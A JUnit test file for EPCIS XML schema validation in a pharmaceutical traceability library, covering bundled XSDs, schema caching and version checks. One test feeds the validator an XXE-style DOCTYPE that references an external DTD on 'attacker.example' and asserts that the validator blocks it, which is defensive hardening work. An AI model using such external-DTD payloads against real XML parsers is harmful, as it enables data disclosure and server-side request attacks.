package org.pharmatrace.epcis.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import javax.xml.transform.stream.StreamSource;
import org.junit.jupiter.api.Test;
import org.pharmatrace.epcis.io.EpcisFormat;
import org.xml.sax.SAXException;

class EpcisXmlSchemasTest {

    private static final String VALID_20 = "<epcis:EPCISDocument xmlns:epcis=\"urn:epcglobal:epcis:xsd:2\" schemaVersion=\"2.0\""
            + " creationDate=\"2024-01-01T00:00:00Z\"><EPCISBody><EventList/></EPCISBody></epcis:EPCISDocument>";

    @Test
    void bundledXsdsAreInTheJarNextToTheClasses() {
        assertThat(EpcisXmlSchemas.class.getResource("/org/pharmatrace/epcis/xml/xsd/EPCglobal-epcis-2_0.xsd")).isNotNull();
        assertThat(EpcisXmlSchemas.class.getResource("/org/pharmatrace/epcis/xml/xsd/EPCglobal-epcis-1_2.xsd")).isNotNull();
        assertThat(EpcisXmlSchemas.class.getResource("/org/pharmatrace/epcis/xml/xsd/StandardBusinessDocumentHeader.xsd")).isNotNull();
    }

    @Test
    void schemasAreCompiledOnceAndShared() {
        assertThat(EpcisXmlSchemas.epcis20()).isSameAs(EpcisXmlSchemas.epcis20()).isSameAs(EpcisXmlSchemas.forFormat(EpcisFormat.XML_2_0));
        assertThat(EpcisXmlSchemas.epcis12()).isSameAs(EpcisXmlSchemas.forFormat(EpcisFormat.XML_1_2));
        assertThatThrownBy(() -> EpcisXmlSchemas.forFormat(EpcisFormat.JSON_LD)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void validatorAcceptsAValidDocumentAndNamesWhatIsWrongInAnInvalidOne() {
        assertThatCode(() -> EpcisXmlSchemas.newValidator(EpcisXmlSchemas.epcis20()).validate(new StreamSource(new StringReader(VALID_20))))
                .doesNotThrowAnyException();

        String wrongVersion = VALID_20.replace("xsd:2", "xsd:1");
        assertThatThrownBy(() -> EpcisXmlSchemas.newValidator(EpcisXmlSchemas.epcis20()).validate(new StreamSource(new StringReader(wrongVersion))))
                .isInstanceOf(SAXException.class).hasMessageContaining("EPCISDocument");
        assertThatCode(() -> EpcisXmlSchemas.newValidator(EpcisXmlSchemas.epcis12()).validate(new StreamSource(new StringReader(wrongVersion))))
                .doesNotThrowAnyException();
    }

    @Test
    void validatorFetchesNothingADocumentPointsTo() {
        String external = "<!DOCTYPE epcis:EPCISDocument SYSTEM \"http://attacker.example/evil.dtd\">" + VALID_20;

        assertThatThrownBy(() -> EpcisXmlSchemas.newValidator(EpcisXmlSchemas.epcis20()).validate(new StreamSource(new StringReader(external))))
                .isInstanceOf(SAXException.class).hasMessageContaining("accessExternalDTD");
    }
}
